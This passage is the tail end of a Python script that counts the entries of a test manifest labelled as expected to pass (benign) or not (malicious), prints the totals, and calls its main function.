    nb = sum(1 for e in MANIFEST if e["expect"] == "pass")
    nm = len(MANIFEST) - nb
    print("benign: %d  malicious: %d  total: %d" % (nb, nm, len(MANIFEST)))


if __name__ == "__main__":
    main()
